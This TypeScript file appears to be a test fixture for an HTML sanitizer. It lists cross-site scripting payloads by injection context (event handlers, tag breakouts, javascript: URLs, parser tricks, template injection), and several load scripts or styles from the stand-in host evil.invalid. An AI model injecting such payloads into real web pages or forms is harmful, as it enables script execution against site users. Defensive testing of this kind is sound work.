/** What others have got scripts into pages with, by the way in: the contexts of OWASP's cheat sheets on cross-site
 * scripting, and the classes of the HTML5 Security Cheatsheet. Each would set `__hit`, open a dialog, or ask
 * evil.invalid for something. */
const WAYS_IN = {
  "an element that runs or loads": [
    "<script>window.__hit=1</script>",
    "<script src=https://evil.invalid/a.js></script>",
    "<SCRIPT/x>window.__hit=1</SCRIPT >",
    "<scr<script>ipt>window.__hit=1</scr</script>ipt>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.__hit=1></iframe>",
    "<object data=https://evil.invalid/o></object>",
    "<embed src=https://evil.invalid/e.swf>",
  ],
  "an attribute that runs": [
    "<img src=x onerror=window.__hit=1>",
    "<img/src=x/onerror=window.__hit=1//",
    "<svg onload=window.__hit=1>",
    "<details open ontoggle=window.__hit=1>x</details>",
    "<video><source onerror=window.__hit=1></video>",
    "<input autofocus onfocus=window.__hit=1>",
    "<marquee onstart=window.__hit=1>x</marquee>",
    "<body onpageshow=window.__hit=1>",
  ],
  "a way out of where it stands": [
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '" autofocus onfocus=alert(1) x="',
    "</textarea><script>window.__hit=1</script>",
    "</title><svg onload=window.__hit=1>",
    "--><script>window.__hit=1</script>",
    "</option></select><img src=x onerror=window.__hit=1>",
  ],
  "an address that runs": [
    "javascript:window.__hit=1",
    "<a href=javascript:window.__hit=1>x</a>",
    '<a href="java&#9;script:window.__hit=1">x</a>',
    "data:text/html,<script>parent.__hit=1</script>",
    "<form action=javascript:window.__hit=1><button>x</button></form>",
  ],
  "another page than ours": [
    "<base href=https://evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>@import 'https://evil.invalid/i.css';</style>",
    "<b style=background:url(https://evil.invalid/b)>x</b>",
  ],
  "a text that is read in two ways": [
    "<math><mtext></mtext><script>window.__hit=1</script></math>",
    "<svg><animate onbegin=window.__hit=1 attributeName=x>",
    '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">',
    "&lt;img src=x onerror=window.__hit=1&gt;",
    "<template><img src=x onerror=window.__hit=1></template>",
  ],
  "a template": ["{{constructor.constructor('window.__hit=1')()}}", `\${window.__hit=1}`],
} as const;

export const HOSTILE: readonly string[] = Object.values(WAYS_IN).flat();

/** All of them, as many in each text as fit. */
export function packed(most: number): string[] {
  const texts: string[] = [];
  for (const each of HOSTILE) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + each.length < most) texts[texts.length - 1] = `${last} ${each}`;
    else texts.push(each);
  }
  return texts;
}

/** One for a place that has room for `most` signs; another one for every `turn`. */
export function oneOf(most: number, turn: number): string {
  const fitting = HOSTILE.filter((each) => each.length <= most);
  return fitting[turn % fitting.length] ?? "<b>";
}
